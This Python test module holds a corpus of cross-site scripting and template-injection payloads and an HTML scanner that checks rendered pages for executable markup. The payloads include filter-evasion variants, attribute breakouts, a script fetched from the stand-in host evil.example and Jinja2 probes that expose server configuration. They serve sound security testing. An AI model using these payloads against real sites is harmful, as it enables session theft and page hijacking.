"""A corpus of cross-site scripting payloads, and a check that a page holds no executable markup.

Every payload that would run sets ``window.__xss`` (or opens a dialog), so a real browser can
tell (tests/browser/test_xss_browser.py); the HTML check below needs no marker: it looks for
scripts, event handlers, dangerous URLs and elements, whatever put them there.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

#: 7 * 7191: a page showing it evaluated a template expression someone posted.
TEMPLATE_RESULT = "50337"

PAYLOADS: list[str] = [
    # raw HTML: scripts, in several spellings
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<script type="text/javascript">window.__xss=1;alert(1)</script>',
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<<script>script>window.__xss=1<</script>/script>",
    "<script/x>window.__xss=1</script>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
    "<template><script>window.__xss=1</script></template>",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    # event handlers
    '<img src=x onerror="window.__xss=1">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=window.__xss=1>",
    "<svg/onload=window.__xss=1>",
    "<body onload=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    '<video><source onerror="window.__xss=1"></video>',
    "<marquee onstart=window.__xss=1>x</marquee>",
    '<img src="x" onerror="&#119;indow.__xss=1">',
    '<img srcset="x" onerror="window.__xss=1">',
    # breaking out of attributes and elements
    '"><script>window.__xss=1</script>',
    "'><svg onload=window.__xss=1>",
    '" onmouseover="window.__xss=1" x="',
    "' onfocus='window.__xss=1' autofocus='",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</p></div><script>window.__xss=1</script>",
    '<!--<img src="--><img src=x onerror=window.__xss=1//">',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    # javascript:, vbscript: and data: URLs, in HTML and markdown
    '<a href="javascript:window.__xss=1">click</a>',
    '<a href="&#x6A;avascript:window.__xss=1">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    "[click](javascript:window.__xss=1)",
    "[click](JaVaScRiPt:window.__xss=1)",
    "[click](&#106;avascript:window.__xss=1)",
    "[click](javascript&colon;window.__xss=1)",
    "[click](java\tscript:window.__xss=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "![pic](javascript:window.__xss=1)",
    '![pic](x" onerror="window.__xss=1)',
    '[click](https://example.org" onclick="window.__xss=1)',
    "<javascript:window.__xss=1>",
    "[ref]: javascript:window.__xss=1\n\n[click][ref]",
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="javascript:window.__xss=1"></object>',
    '<embed src="javascript:window.__xss=1">',
    '<form action="javascript:window.__xss=1"><button>go</button></form>',
    '<button formaction="javascript:window.__xss=1">go</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<base href="javascript:/">',
    '<table><td background="javascript:window.__xss=1">x</td></table>',
    # SVG and MathML
    "<svg><script>window.__xss=1</script></svg>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text x="9" y="9">x</text></a></svg>',
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:window.__xss=1"/></svg>',
    '<math href="javascript:window.__xss=1">click</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    # CSS
    '<style>body{background:url("javascript:window.__xss=1")}</style>',
    '<div style="background-image:url(javascript:window.__xss=1)">x</div>',
    '<div style="width: expression(window.__xss=1)">x</div>',
    '<link rel="stylesheet" href="javascript:window.__xss=1">',
    # htmx attributes: the page runs htmx, which would act on them
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<div hx-on:click="window.__xss=1" hx-on::load="window.__xss=1">x</div>',
    '<div data-hx-on:load="window.__xss=1">x</div>',
    # template injection (Jinja2 and others)
    "{{7*7191}}",
    "{{ config }}{{ self.__init__.__globals__ }}",
    "${7*7191} #{7*7191} <%= 7*7191 %>",
    "{% raw %}{{7*7191}}{% endraw %}",
    # markdown code, which must stay text
    "```html\n<script>window.__xss=1</script>\n```",
    "`<img src=x onerror=window.__xss=1>`",
]

#: Attributes whose value the browser follows as a URL.
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "srcset",
    "lowsrc",
    "dynsrc",
    "ping",
    "cite",
    "codebase",
}
FORBIDDEN_ELEMENTS = {
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "style",
    "math",
    "foreignobject",
    "animate",
    "set",
    "use",
    "handler",
    "listener",
    "template",
    "isindex",
}
_IGNORED_IN_URLS = re.compile(r"[\x00-\x20]")


def _ours(url: str) -> bool:
    """A file the app serves itself (a script or a stylesheet)."""
    parts = urlsplit(url)
    return (
        parts.scheme in ("", "http", "https")
        and parts.netloc in ("", "testserver")
        and (parts.path.startswith("/static/"))
    )


def _scheme(url: str) -> str:
    url = _IGNORED_IN_URLS.sub("", url).lower()
    return url.split(":", 1)[0] if ":" in url else ""


class _Scanner(HTMLParser):
    """One pass over a page: what could run, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, name: str, attrs: list[tuple[str, str | None]]) -> None:
        found = self.found
        values = {a.lower(): (v or "") for a, v in attrs}
        shown = self.get_starttag_text() or name
        shown = shown[:120]
        if name == "script" and not _ours(values.get("src", "")):
            found.append(f"<script> not from /static: {shown}")
        if name in FORBIDDEN_ELEMENTS:
            found.append(f"<{name}>: {shown}")
        if name == "link" and not _ours(values.get("href", "")):
            found.append(f"<link> not from /static: {shown}")
        if name == "meta" and values.get("http-equiv", "").lower() == "refresh":
            found.append(f"<meta refresh>: {shown}")
        if name == "form" and _scheme(values.get("action", "")) not in ("", "http", "https"):
            found.append(f"<form> to another scheme: {shown}")
        for attribute, text in values.items():
            if attribute.startswith("on"):
                found.append(f"event handler {attribute}= on <{name}>: {shown}")
            if attribute in ("style", "srcdoc"):
                found.append(f"{attribute}= on <{name}>: {shown}")
            if attribute.startswith(("hx-on", "data-hx-on")):
                found.append(f"{attribute}= on <{name}>: {shown}")
            if attribute.startswith(("hx-", "data-hx-")) and _FROM_PAYLOAD.search(text):
                found.append(f"{attribute}= from a payload on <{name}>: {shown}")
            if attribute in URL_ATTRIBUTES and _scheme(text) in ("javascript", "vbscript", "data"):
                found.append(f"{attribute}={text[:60]!r} on <{name}>")

    def handle_startendtag(self, name: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(name, attrs)

    def handle_data(self, data: str) -> None:
        if self.lasttag == "script" and self.cdata_elem == "script" and data.strip():
            self.found.append(f"inline script: {data[:120]}")
        self.text.append(data)


_FROM_PAYLOAD = re.compile(r"__xss|javascript|alert", re.IGNORECASE)


def scan(html: str) -> tuple[list[str], str]:
    """What in this page could run (empty when nothing could), and its text."""
    scanner = _Scanner()
    scanner.feed(html)
    scanner.close()
    text = re.sub(r"\s+", " ", " ".join(scanner.text))
    if TEMPLATE_RESULT in text:
        scanner.found.append(f"a template expression was evaluated ({TEMPLATE_RESULT} shown)")
    return scanner.found, text


def executable_markup(html: str) -> list[str]:
    return scan(html)[0]


def marked(index: int, payload: str) -> str:
    """The payload with a marker of its own (on a line of its own, so markdown keeps it as
    text whatever the payload opened), to prove it reached the page."""
    return f"{payload}\n\n{marker(index)}"


def marker(index: int) -> str:
    return f"XSSMARK{index:03d}"


def plain_marked(index: int, payload: str) -> str:
    """For one-line fields (names, titles): the payload, then its marker."""
    return f"{payload.replace(chr(10), ' ')} {marker(index)}"
